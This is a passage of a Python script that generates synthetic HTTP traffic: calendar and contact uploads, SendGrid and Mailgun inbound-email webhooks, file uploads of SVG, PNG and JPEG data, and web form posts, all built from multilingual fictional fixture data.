    return s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")


def fold(line):
    """RFC 5545 line folding at 75 octets."""
    out, cur = [], b""
    for ch in line:
        b = ch.encode("utf-8")
        if len(cur) + len(b) > 74:
            out.append(cur.decode("utf-8"))
            cur = b" " + b
        else:
            cur += b
    out.append(cur.decode("utf-8"))
    return "\r\n".join(out)


EVENTS = [
    ("Team offsite \u2014 day 1", "Lisbon office, Rua Augusta 274, 2\u00ba", "Agenda:\n- 9:30 welcome & coffee\n- 10:00 roadmap review\n- 12:30 lunch (veggie options, tell Priya)\n- 14:00 workshops"),
    ("Dentist (Dr. M\u00fcller)", "Praxis Dr. M\u00fcller, Hauptstra\u00dfe 12a, K\u00f6ln", "Bring insurance card. Arrive 10 min early."),
    ("\u4f1a\u8b70\uff1a\u65b0\u5546\u54c1\u306e\u6253\u3061\u5408\u308f\u305b", "\u6771\u4eac\u672c\u793e \uff13\uff26 \u4f1a\u8b70\u5ba4\uff22", "\u8cc7\u6599\u306f\u524d\u65e5\u307e\u3067\u306b\u5171\u6709\u3057\u3066\u304f\u3060\u3055\u3044\u3002"),
    ("Book club: \"The Remains of the Day\"", "Ren\u00e9e's place (3rd floor, ring twice)", "We're on chapters 4-6. Snacks & wine welcome :)"),
    ("Sprint planning #42", "https://meet.example-video.com/abc-defg-hij", "Please update your tickets before the meeting.\nVelocity last sprint: 34 pts"),
    ("Kids' football \u26bd", "Riverside Park, pitch 3", "Bring shin pads + water. Carpool: Tom (odd weeks), Ana (even weeks)."),
    ("\u0412\u0441\u0442\u0440\u0435\u0447\u0430 \u0432\u044b\u043f\u0443\u0441\u043a\u043d\u0438\u043a\u043e\u0432", "\u041a\u0430\u0444\u0435 \u00ab\u0412\u0430\u0440\u0435\u043d\u0438\u043a\u00bb, \u0443\u043b. \u041b\u0435\u043d\u0438\u043d\u0430, 5", "\u0412\u0437\u043d\u043e\u0441 \u2014 1500 \u20bd, \u043f\u0435\u0440\u0435\u0432\u043e\u0434\u0438\u0442\u044c \u0410\u043d\u043d\u0435."),
    ("1:1 Jonas / Priya", "", "Topics: career growth, on-call load, Q3 goals (and/or OKRs?)"),
    ("Yoga \U0001F9D8\u200D\u2640\uFE0F", "Studio Prana, Calle de Alcal\u00e1 48", "Mat provided; 6\u20ac drop-in."),
]

VCARDS = [
    ("Ren\u00e9e", "O'Connor", "O'Connor Design, Ltd.", "Creative Director", "+353 1 555 0142", "renee@oconnor-design.ie", ";;12 Merrion Sq.;Dublin;;D02 XY45;Ireland", "Met at the Dublin meetup. Prefers WhatsApp."),
    ("J\u00fcrgen", "Wei\u00df", "M\u00fcller & S\u00f6hne GmbH", "Einkauf", "+49 221 5550 123", "j.weiss@mueller-soehne.de", ";;Hauptstra\u00dfe 12a;K\u00f6ln;;50667;Deutschland", "Ansprechpartner f\u00fcr Rechnungen"),
    ("\u592a\u90ce", "\u5c71\u7530", "\u682a\u5f0f\u4f1a\u793e\u30b3\u30fc\u30d9\u30c7\u30b6\u30a4\u30f3", "\u90e8\u9577", "+81 3-5555-0199", "t.yamada@kobe-design.jp", ";;\u795e\u5357\uff11\u2010\uff12\u2010\uff13;\u6e0b\u8c37\u533a;\u6771\u4eac\u90fd;150-0041;\u65e5\u672c", "\u5e74\u8cc0\u72b6\u3092\u9001\u308b\u3053\u3068"),
    ("Mary-Kate", "O'Brien", "St. Mary's School", "Teacher (Year 4)", "+353 87 555 0188", "mk.obrien@stmarys-school.ie", ";;Church Rd.;Galway;;H91 AB12;Ireland", "Parent-teacher meeting Tue 4 pm"),
    ("\u0645\u062d\u0645\u062f", "\u0627\u0644\u0639\u0644\u064a", "\u0634\u0631\u0643\u0629 \u0627\u0644\u0646\u062e\u064a\u0644", "\u0645\u062f\u064a\u0631 \u0627\u0644\u0645\u0628\u064a\u0639\u0627\u062a", "+971 4 555 0100", "m.alali@example.ae", ";;\u0634\u0627\u0631\u0639 \u0627\u0644\u0634\u064a\u062e \u0632\u0627\u064a\u062f;\u062f\u0628\u064a;;00000;\u0627\u0644\u0625\u0645\u0627\u0631\u0627\u062a", ""),
    ("\u015eule", "\u0130\u015fbilir", "I\u015f\u0131k Yaz\u0131l\u0131m A.\u015e.", "Yaz\u0131l\u0131m M\u00fchendisi", "+90 212 555 01 23", "sule@example.com.tr", ";;Bar\u0131\u015f Sk. No:4/2;\u0130stanbul;;34000;T\u00fcrkiye", "Kahve sever \u2615"),
]


def gen_calendar(c):
    rng = c.rng
    L = "calendar-contacts"
    for i in range(30):
        kind = i % 3
        if kind == 0 or (kind == 2 and rng.random() < 0.3):
            summary, loc, desc = rng.choice(EVENTS)
            uid = rand_uuid(rng).upper()
            d = rng.randint(1, 28)
            h = rng.randint(7, 18)
            lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Apple Inc.//macOS 14.5//EN", "CALSCALE:GREGORIAN",
                     "BEGIN:VTIMEZONE", "TZID:Europe/Lisbon", "BEGIN:STANDARD", "DTSTART:19961027T020000", "RRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU",
                     "TZNAME:WET", "TZOFFSETFROM:+0100", "TZOFFSETTO:+0000", "END:STANDARD", "END:VTIMEZONE",
                     "BEGIN:VEVENT", "UID:" + uid, "DTSTAMP:20240610T081500Z", "DTSTART;TZID=Europe/Lisbon:202407%02dT%02d0000" % (d, h),
                     "DTEND;TZID=Europe/Lisbon:202407%02dT%02d3000" % (d, h + 1), "SUMMARY:" + ics_escape(summary)]
            if loc:
                lines.append("LOCATION:" + ics_escape(loc))
            lines.append("DESCRIPTION:" + ics_escape(desc))
            if rng.random() < 0.5:
                lines.append("RRULE:FREQ=WEEKLY;INTERVAL=%d;BYDAY=%s;UNTIL=20241231T235959Z" % (rng.choice([1, 2]), rng.choice(["MO", "TU,TH", "FR"])))
            lines += ["ORGANIZER;CN=\"%s\":mailto:%s" % (rng.choice(NAMES), rng.choice(EMAILS)),
                      "ATTENDEE;CN=\"%s\";ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:%s" % (rng.choice(NAMES), rng.choice(EMAILS))]
            if rng.random() < 0.5:
                lines += ["BEGIN:VALARM", "ACTION:DISPLAY", "DESCRIPTION:Reminder", "TRIGGER:-PT15M", "END:VALARM"]
            lines += ["END:VEVENT", "END:VCALENDAR"]
            body = "\r\n".join(fold(l) for l in lines) + "\r\n"
            c.add(L, None, "PUT", "dav.groupware.kestrel-media.net", "/calendars/%s/personal/%s.ics" % (rng.choice(["mchen", "renee", "jonas"]), uid),
                  "text/calendar; charset=utf-8", body, accept="*/*", ua=rng.choice(["macOS/14.5 (23F79) CalendarAgent/1005.5.1", "DAVx5/4.4.1-ose (2024/06/10; dav4jvm; okhttp/4.12.0) Android/14", "Thunderbird/115.12.1"]),
                  extra=[("If-None-Match", "*")], origin=False)
        elif kind == 1:
            fn, ln, org, title, tel, mail, adr, note = rng.choice(VCARDS)
            uid = rand_uuid(rng)
            lines = ["BEGIN:VCARD", "VERSION:3.0", "PRODID:-//Apple Inc.//iPhone OS 17.5//EN", "N:%s;%s;;;" % (ln, fn), "FN:%s %s" % (fn, ln),
                     "ORG:%s;" % org.replace(",", "\\,"), "TITLE:" + title, "EMAIL;type=INTERNET;type=WORK;type=pref:" + mail,
                     "TEL;type=CELL;type=VOICE;type=pref:" + tel, "ADR;type=WORK;type=pref:" + adr.replace(",", "\\,")]
            if note:
                lines.append("NOTE:" + ics_escape(note))
            if rng.random() < 0.4:
                lines.append("BDAY:19%02d-%02d-%02d" % (rng.randint(50, 99), rng.randint(1, 12), rng.randint(1, 28)))
            if rng.random() < 0.3:
                lines.append("URL;type=WORK:https://www.%s" % mail.split("@")[1])
            lines += ["CATEGORIES:%s" % rng.choice(["Work", "Family", "Clients,VIP", "School"]), "UID:" + uid, "REV:2024-06-1%dT10:22:31Z" % rng.randint(0, 9), "END:VCARD"]
            body = "\r\n".join(fold(l) for l in lines) + "\r\n"
            c.add(L, None, "PUT", "dav.groupware.kestrel-media.net", "/addressbooks/%s/contacts/%s.vcf" % (rng.choice(["mchen", "renee", "jonas"]), uid),
                  "text/vcard; charset=utf-8", body, accept="*/*", ua=rng.choice(["iOS/17.5.1 (21F90) dataaccessd/1.0", "DAVx5/4.4.1-ose (2024/06/10; dav4jvm; okhttp/4.12.0) Android/14"]), origin=False)
        else:
            summary, loc, desc = rng.choice(EVENTS)
            c.json_req(L, None, "POST", "cal.clearpath-tasks.com", "/api/calendars/primary/events",
                       {"summary": summary, "location": loc, "description": desc,
                        "start": {"dateTime": "2024-08-%02dT10:00:00+02:00" % rng.randint(1, 28), "timeZone": "Europe/Berlin"},
                        "end": {"dateTime": "2024-08-%02dT11:30:00+02:00" % rng.randint(1, 28), "timeZone": "Europe/Berlin"},
                        "attendees": [{"email": e} for e in rng.sample(EMAILS, 2)], "reminders": {"useDefault": False, "overrides": [{"method": "popup", "minutes": 10}]},
                        "recurrence": ["RRULE:FREQ=WEEKLY;BYDAY=MO"] if rng.random() < 0.4 else []})


NEWSLETTER_HTML = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /><meta name="viewport" content="width=device-width, initial-scale=1.0" />
<title>%(title)s</title><style type="text/css">body{margin:0;padding:0;background:#f4f4f4;} .btn a{background:#1a73e8;color:#ffffff;padding:12px 24px;border-radius:4px;text-decoration:none;} @media only screen and (max-width:600px){.container{width:100%% !important;}}</style></head>
<body><table role="presentation" width="100%%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4"><tr><td align="center">
<table class="container" role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#333333;">
<tr><td style="padding:24px;"><img src="https://cdn.%(domain)s/email/logo.png" alt="%(brand)s" width="140" height="40" style="display:block;border:0;" /></td></tr>
<tr><td style="padding:0 24px 12px 24px;font-size:22px;font-weight:bold;">%(title)s</td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:15px;line-height:22px;">%(body)s</td></tr>
<tr><td class="btn" style="padding:0 24px 24px 24px;"><a href="https://click.%(domain)s/ls/click?upn=%(token)s" target="_blank">%(cta)s</a></td></tr>
<tr><td style="padding:24px;font-size:11px;color:#888888;">You're receiving this because you signed up at %(domain)s. <a href="https://%(domain)s/unsubscribe?u=%(token)s" style="color:#888888;">Unsubscribe</a> &middot; %(address)s</td></tr>
</table><img src="https://click.%(domain)s/wf/open?upn=%(token)s" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;" />
</td></tr></table></body></html>"""

MAIL_KINDS = [
    ("newsletter", "The Saltmarsh Monthly \u2014 June", "Saltmarsh Trust <news@saltmarsh.org>"),
    ("newsletter", "Your weekly digest: 5 new posts in #gardening", "Community Digest <digest@community.saltmarsh.org>"),
    ("receipt", "Your receipt from Maple & Oak [#MO-58213]", "Maple & Oak <orders@mapleandoak.com>"),
    ("reply", "Re: Invoice #INV-2024-0631 shows wrong VAT number", "Klaus Br\u00e4uer <k.braeuer@mueller-soehne.de>"),
    ("reply", "Re: Order 58213 arrived damaged", "Ana\u00efs D'Arcy <anais.darcy@posteo.de>"),
    ("ooo", "Automatic reply: Feature request: export to PDF", "Priya Raman <priya.r@brightlane.co>"),
    ("reply", "AW: Termin n\u00e4chste Woche", "J\u00fcrgen Wei\u00df <j.weiss@mueller-soehne.de>"),
    ("reply", "Re: \u6253\u3061\u5408\u308f\u305b\u306e\u4ef6", "\u5c71\u7530 \u592a\u90ce <t.yamada@kobe-design.jp>"),
]


def mail_bodies(rng, kind, subject, sender):
    name = sender.split(" <")[0]
    if kind == "newsletter":
        paras = rng.sample(PARAS, 3)
        text = "%s\n\n%s\n\nRead more: https://saltmarsh.org/news\n\nUnsubscribe: https://saltmarsh.org/unsubscribe" % (subject, "\n\n".join(paras))
        htmlb = NEWSLETTER_HTML % {"title": esc(subject), "domain": "saltmarsh.org", "brand": "Saltmarsh Trust", "token": rand_token(rng, 40),
                                   "body": "".join("<p style=\"margin:0 0 12px 0;\">%s</p>" % esc(p) for p in paras), "cta": "Read the full issue",
                                   "address": "Saltmarsh Trust, 4 Quay St., Whitby YO21 3PU"}
    elif kind == "receipt":
        text = "Thanks for your order!\n\nOrder #MO-58213\n1 x Oak Serving Board (Large)   $64.00\n2 x Hand-thrown Mug, 350 ml     $37.00\nShipping                         $9.50\nTotal                          $110.50\n\nQuestions? Just reply to this e-mail."
        htmlb = NEWSLETTER_HTML % {"title": "Thanks for your order!", "domain": "mapleandoak.com", "brand": "Maple &amp; Oak", "token": rand_token(rng, 40),
                                   "body": "<table width=\"100%\" style=\"font-size:14px;\"><tr><td>1 &times; Oak Serving Board (Large)</td><td align=\"right\">$64.00</td></tr><tr><td>2 &times; Hand-thrown Mug, 350&nbsp;ml</td><td align=\"right\">$37.00</td></tr><tr><td>Shipping</td><td align=\"right\">$9.50</td></tr><tr><td><b>Total</b></td><td align=\"right\"><b>$110.50</b></td></tr></table>",
                                   "cta": "Track your parcel", "address": "Maple & Oak, 77 Mill Lane, Hebden Bridge"}
    elif kind == "ooo":
        text = "Hi,\n\nI'm out of the office until Monday 17 June with limited access to e-mail. For urgent matters please contact support@brightlane.co.\n\nThanks,\n%s" % name
        htmlb = "<div dir=\"ltr\">Hi,<br><br>I'm out of the office until Monday 17 June with limited access to e-mail. For urgent matters please contact <a href=\"mailto:support@brightlane.co\">support@brightlane.co</a>.<br><br>Thanks,<br>%s</div>" % esc(name)
    else:
        mine = rng.choice(TICKET_BODIES)
        quoted = "\n".join("> " + l for l in mine.split("\n"))
        reply = rng.choice(["Thanks, that works for us.", "Perfect, thank you! Much appreciated.", "Danke f\u00fcr die schnelle Antwort \u2014 passt so.",
                            "\u627f\u77e5\u3044\u305f\u3057\u307e\u3057\u305f\u3002\u3088\u308d\u3057\u304f\u304a\u9858\u3044\u3044\u305f\u3057\u307e\u3059\u3002", "Hmm, I'm still seeing the old address on the PDF. Could you check again?"])
        text = "%s\n\n%s\n\nOn Mon, 10 Jun 2024 at 14:02, Tidewater Support <support@tidewater-outfitters.com> wrote:\n%s\n" % (reply, name, quoted)
        htmlb = ("<div dir=\"ltr\"><div>%s</div><div><br></div><div>%s</div></div><br><div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On Mon, 10 Jun 2024 at 14:02, Tidewater Support &lt;<a href=\"mailto:support@tidewater-outfitters.com\">support@tidewater-outfitters.com</a>&gt; wrote:<br></div>"
                 "<blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">%s</blockquote></div>"
                 % (esc(reply), esc(name), esc(mine).replace("\n", "<br>")))
    return text, htmlb


def gen_mail(c):
    rng = c.rng
    L = "mail-webhook"
    for i in range(34):
        kind, subject, sender = MAIL_KINDS[i % len(MAIL_KINDS)]
        text, htmlb = mail_bodies(rng, kind, subject, sender)
        to = rng.choice(["support@tidewater-outfitters.com", "inbox+%s@parse.helpdesk-app.com" % rand_hex(rng, 8), "replies@brightlane.co"])
        msgid = "<%s@%s>" % (rand_token(rng, 24), sender.split("@")[1].rstrip(">"))
        date = "%s, %d Jun 2024 %02d:%02d:%02d +0200" % (rng.choice(["Mon", "Tue", "Wed", "Thu", "Fri"]), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59))
        subj_hdr = subject if all(ord(ch) < 128 for ch in subject) else "=?UTF-8?B?%s?=" % base64.b64encode(subject.encode()).decode()
        from_hdr = sender if all(ord(ch) < 128 for ch in sender) else "=?UTF-8?Q?%s?= <%s" % (urllib.parse.quote(sender.split(" <")[0]).replace("%", "="), sender.split(" <")[1])
        if i % 2 == 0:  # SendGrid Inbound Parse
            headers = ("Received: by mx0047p1mdw1.sendgrid.net with SMTP id %s Mon, 10 Jun 2024 12:14:03 +0000 (UTC)\n"
                       "Received: from mail-ej1-f41.google.com (mail-ej1-f41.google.com [209.85.218.41]) by mx0047p1mdw1.sendgrid.net (Postfix) with ESMTPS id 4F1C2A0123\n"
                       "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=20230601; h=to:subject:message-id:date:from:mime-version; bh=%s=; b=%s\n"
                       "MIME-Version: 1.0\nFrom: %s\nDate: %s\nMessage-ID: %s\nSubject: %s\nTo: %s\nContent-Type: multipart/alternative; boundary=\"0000000000004f2a8b061a8e1c2d\"\n"
                       % (rand_token(rng, 12), sender.split("@")[1].rstrip(">"), rand_token(rng, 43), rand_token(rng, 120), from_hdr, date, msgid, subj_hdr, to))
            if kind == "reply":
                headers += "In-Reply-To: <%s@tidewater-outfitters.com>\nReferences: <%s@tidewater-outfitters.com>\n" % (rand_token(rng, 20), rand_token(rng, 20))
            parts = [("headers", headers), ("dkim", "{@%s : pass}" % sender.split("@")[1].rstrip(">")), ("content-ids", "{}"), ("to", to), ("html", htmlb),
                     ("from", sender), ("text", text), ("sender_ip", "209.85.218.41"), ("spam_report", "Spam detection software, running on the system \"mx0047p1mdw1.sendgrid.net\",\nhas NOT identified this incoming email as spam.\n\nContent analysis details:   (-0.1 points, 5.0 required)\n\n pts rule name              description\n---- ---------------------- --------------------------------------------------\n-0.1 DKIM_VALID             Message has at least one valid DKIM or DK signature\n"),
                     ("envelope", jdump({"to": [to], "from": sender.split("<")[1].rstrip(">")})), ("attachments", "0"), ("subject", subject), ("spam_score", "-0.1"),
                     ("charsets", jdump({"to": "UTF-8", "html": "UTF-8", "subject": "UTF-8", "from": "UTF-8", "text": "UTF-8"})), ("SPF", "pass")]
            c.upload(L, None, "hooks.helpdesk-app.com", "/inbound/sendgrid?key=%s" % rand_hex(rng, 16), parts, ua="Sendlib/1.0 mx0047p1mdw1.sendgrid.net", accept="*/*", origin=False)
        else:  # Mailgun route (forward), urlencoded or multipart
            stripped = text.split("\n\nOn ")[0] if "\n\nOn " in text else text
            mh = jdump([["Received", "from mail-ej1-f41.google.com (mail-ej1-f41.google.com [209.85.218.41]) by mxa.mailgun.org with ESMTP id %s; Mon, 10 Jun 2024 12:14:03 GMT" % rand_hex(rng, 24)],
                        ["From", from_hdr], ["To", to], ["Subject", subj_hdr], ["Date", date], ["Message-Id", msgid], ["Mime-Version", "1.0"],
                        ["Content-Type", "multipart/alternative; boundary=\"000000000000b1c2d3061a8e1c2d\""], ["X-Mailgun-Incoming", "Yes"]])
            pairs = [("recipient", to), ("sender", sender.split("<")[1].rstrip(">")), ("from", sender), ("subject", subject), ("body-plain", text),
                     ("stripped-text", stripped), ("stripped-signature", ""), ("body-html", htmlb), ("stripped-html", htmlb.split("<blockquote")[0]),
                     ("attachment-count", "0"), ("timestamp", str(rng.randint(1717000000, 1719000000))), ("token", rand_hex(rng, 50)), ("signature", rand_hex(rng, 64)),
                     ("message-headers", mh), ("Message-Id", msgid), ("In-Reply-To", "<%s@tidewater-outfitters.com>" % rand_token(rng, 20)) if kind == "reply" else ("X-Mailgun-Sflag", "No")]
            if rng.random() < 0.5:
                c.form_post(L, None, "hooks.helpdesk-app.com", "/inbound/mailgun", pairs, ua="mailgun/treq-22.2.0", accept="*/*", origin=False)
            else:
                c.upload(L, None, "hooks.helpdesk-app.com", "/inbound/mailgun/mime", pairs, ua="mailgun/treq-22.2.0", accept="*/*", origin=False)


SVG_ICONS = [
    """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24" fill="none" stroke="currentColor" stroke-width="2" stroke-linecap="round" stroke-linejoin="round" class="feather feather-home"><path d="M3 9l9-7 9 7v11a2 2 0 0 1-2 2H5a2 2 0 0 1-2-2z"></path><polyline points="9 22 9 12 15 12 15 22"></polyline></svg>""",
    """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 128 128" role="img" aria-labelledby="t1">
  <title id="t1">Maple &amp; Oak logo</title>
  <defs>
    <linearGradient id="g1" x1="0%" y1="0%" x2="100%" y2="100%">
      <stop offset="0%" stop-color="#c0392b"/>
      <stop offset="100%" stop-color="#e67e22"/>
    </linearGradient>
    <radialGradient id="g2" cx="50%" cy="40%" r="60%"><stop offset="0" stop-color="#fff" stop-opacity=".6"/><stop offset="1" stop-color="#fff" stop-opacity="0"/></radialGradient>
  </defs>
  <circle cx="64" cy="64" r="60" fill="url(#g1)"/>
  <path d="M64 20 L74 48 L104 50 L80 68 L88 98 L64 80 L40 98 L48 68 L24 50 L54 48 Z" fill="#fff"/>
  <circle cx="64" cy="64" r="60" fill="url(#g2)"/>
  <use xlink:href="#g1"/>
</svg>""",
    """<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60" viewBox="0 0 200 60">
  <style>.txt { font: bold 28px "Helvetica Neue", Arial, sans-serif; fill: #2c3e50; }</style>
  <rect x="0" y="0" width="200" height="60" rx="8" fill="#ecf0f1"/>
  <text x="20" y="40" class="txt">Caf\u00e9 Lumi\u00e8re</text>
</svg>""",
    """<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
	 viewBox="0 0 64 64" style="enable-background:new 0 0 64 64;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#27AE60;}
	.st1{fill:none;stroke:#FFFFFF;stroke-width:4;stroke-miterlimit:10;}
</style>
<g>
	<circle class="st0" cx="32" cy="32" r="30"/>
	<polyline class="st1" points="18,33 28,43 46,23 "/>
</g>
</svg>""",
    """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><defs><pattern id="p" width="10" height="10" patternUnits="userSpaceOnUse"><path d="M0 10 L10 0" stroke="#ccc" stroke-width="1"/></pattern><clipPath id="c"><circle cx="50" cy="50" r="45"/></clipPath></defs><rect width="100" height="100" fill="url(#p)" clip-path="url(#c)"/><g transform="rotate(-15 50 50)"><ellipse cx="50" cy="50" rx="30" ry="12" fill="#3498db" opacity="0.8"/></g></svg>""",
    """<svg width="48" height="48" viewBox="0 0 48 48" xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"><sodipodi:namedview id="nv" pagecolor="#ffffff" inkscape:zoom="8"/><g inkscape:label="Layer 1" inkscape:groupmode="layer"><path d="m 24,4 a 20,20 0 1 0 0.01,0 z m 0,8 v 14 l 9,6" fill="none" stroke="#8e44ad" stroke-width="3"/><animateTransform attributeName="transform" type="rotate" from="0 24 24" to="360 24 24" dur="6s" repeatCount="indefinite"/></g></svg>""",
]


def png_bytes(rng, w=2, h=2):
    import struct, zlib
    raw = b"".join(b"\x00" + bytes(rng.randrange(256) for _ in range(w * 3)) for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def jpeg_bytes(rng, comment=b"", n=300):
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    com = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment if comment else b""
    dqt = b"\xff\xdb\x00\x43\x00" + bytes(rng.randrange(1, 100) for _ in range(64))
    sof = b"\xff\xc0\x00\x11\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    data = bytes(rng.randrange(256) for _ in range(n)).replace(b"\xff", b"\xff\x00")
    return b"\xff\xd8" + app0 + com + dqt + sof + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + data + b"\xff\xd9"


def gen_uploads(c):
    rng = c.rng
    L = "uploads"
    for i in range(44):
        kind = i % 6
        if kind == 0:  # SVG icon upload
            svg = SVG_ICONS[i // 6 % len(SVG_ICONS)]
            name = rng.choice(["icon-home.svg", "logo (final).svg", "Caf\u00e9 Lumi\u00e8re logo.svg", "checkmark_green.svg", "\u30ed\u30b4.svg", "spinner.svg"])
            c.upload(L, None, rng.choice(["cms.lighthouse-press.org", "blog.fernhill-studio.com"]), rng.choice(["/wp-admin/async-upload.php", "/api/media"]),
                     [("name", name), ("action", "upload-attachment"), ("_wpnonce", rand_hex(rng, 10)), ("async-upload", svg, name, "image/svg+xml")])
        elif kind == 1:  # PNG image with unicode/awkward file name (binary -> raw_b64)
            name = rng.choice(IMG_FILENAMES).rsplit(".", 1)[0] + ".png"
            c.upload(L, None, "files.cloudbox-drive.com", "/api/v2/upload?parent=%s" % rand_hex(rng, 16),
                     [("relativePath", "Photos/2024/" + name), ("file", png_bytes(rng, rng.randint(2, 6), rng.randint(2, 6)), name, "image/png")])
        elif kind == 2:  # JPEG avatar / attachment
            name = rng.choice(IMG_FILENAMES)
            c.upload(L, None, rng.choice(["chat.teamharbor.io", "community.saltmarsh.org"]), rng.choice(["/api/v4/files?channel_id=%s" % rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "/uploads.json?client_id=%s" % rand_hex(rng, 32)]),
                     [("type", "composer"), ("file", jpeg_bytes(rng, b"" if rng.random() < 0.6 else ("Photo by %s, CC BY 4.0" % rng.choice(["Ana", "J. Nakamura", "Bjorn"])).encode()), name, "image/jpeg")])
        elif kind == 3:  # document attachment metadata (JSON, after direct upload)
            name = rng.choice(DOC_FILENAMES + IMG_FILENAMES)
            c.json_req(L, None, "POST", "app.clearpath-tasks.com", "/api/attachments",
                       {"taskId": rng.randint(1000, 99999), "fileName": name, "size": rng.randint(20000, 9000000), "mimeType": "application/pdf" if name.endswith(".pdf") else "application/octet-stream",
                        "storageKey": "uploads/%s/%s" % (rand_uuid(rng), urllib.parse.quote(name)), "description": rng.choice(["", "signed copy", "v2 with Klaus' comments", "\u6700\u7d42\u7248"])})
        elif kind == 4:  # desktop sync client (.NET HttpClient): both filename and filename* (RFC 5987)
            name = rng.choice(DOC_FILENAMES).rsplit(".", 1)[0] + ".txt"
            bnd = rand_uuid(rng)
            content = rng.choice(PARAS) + "\n\n" + rng.choice(COMMENTS) + "\n"
            body = ("--%s\r\nContent-Type: text/plain\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"; filename*=utf-8''%s\r\n\r\n%s\r\n--%s\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Disposition: form-data; name=\"folder\"\r\n\r\n/Shared/Notes\r\n--%s--\r\n"
                    % (bnd, name.encode("ascii", "replace").decode().replace("?", "_"), urllib.parse.quote(name), content, bnd, bnd))
            c.add(L, None, "POST", "files.cloudbox-drive.com", "/api/v2/upload", "multipart/form-data; boundary=\"%s\"" % bnd, body,
                  ua="CloudboxDesktop/3.2.1 (Windows 10.0.22631; .NET 8.0.6)", accept="application/json", origin=False)
        else:  # avatar as base64 data URL in JSON
            png = base64.b64encode(png_bytes(rng, 4, 4)).decode()
            c.json_req(L, None, "PUT", "app.clearpath-tasks.com", "/api/me/avatar",
                       {"image": "data:image/png;base64," + png, "fileName": rng.choice(["me.png", "avatar (cropped).png", "\u5934\u50cf.png"]), "crop": {"x": 0, "y": 0, "w": 4, "h": 4}})


def gen_forms(c):
    rng = c.rng
    L = "forms"
    for i in range(78):
        kind = i % 10
        if kind == 0:  # checkout address
            street, street2, city, state, zipc, country = ADDRESSES[i // 10 % len(ADDRESSES)]
            nm = rng.choice(NAMES).split(" ")
            c.form_post(L, None, "shop.mapleandoak.com", "/checkout/%s/address" % rand_hex(rng, 32),
                        [("_method", "patch"), ("authenticity_token", rand_token(rng, 86)), ("checkout[email]", rng.choice(EMAILS)),
                         ("checkout[shipping_address][first_name]", nm[0]), ("checkout[shipping_address][last_name]", " ".join(nm[1:]) or nm[0]),
                         ("checkout[shipping_address][company]", rng.choice(["", "M\u00fcller & S\u00f6hne GmbH", "O'Connor Design, Ltd."])),
                         ("checkout[shipping_address][address1]", street), ("checkout[shipping_address][address2]", street2),
                         ("checkout[shipping_address][city]", city), ("checkout[shipping_address][province]", state), ("checkout[shipping_address][zip]", zipc),
                         ("checkout[shipping_address][country]", country), ("checkout[shipping_address][phone]", rng.choice(["+1 (217) 555-0143", "+44 20 7946 0018", "+49 221 5550-123", "03-5555-0199"])),
                         ("checkout[note]", rng.choice(["", "Please leave at the back door if nobody's home :)", "Gift - no prices on the packing slip please!", "Ring bell #4 (not #3)"]))])
        elif kind == 1:  # search box
            term = SEARCHES[i // 10 % len(SEARCHES)] if rng.random() < 0.7 else rng.choice(SEARCHES)
            host = rng.choice(["www.rivertown-gazette.com", "shop.mapleandoak.com", "recipes.hearthside.kitchen", "jobs.northbank-council.gov.uk"])
            c.get(L, None, host, "/search?q=%s%s" % (q(term), rng.choice(["", "&sort=relevance", "&category=all&page=2", "&from=2024-01-01&to=2024-06-30"])))
        elif kind == 2:  # profile bio
            c.form_post(L, None, "community.saltmarsh.org", "/u/%s/preferences/profile" % rng.choice(["renee", "bjorn", "mchen", "ana_k"]),
                        [("bio_raw", rng.choice(BIOS)), ("location", rng.choice(["Porto, PT", "Bergen, Norway", "\u6771\u4eac", "K\u00f6ln / Cologne", "Somewhere between here & there"])),
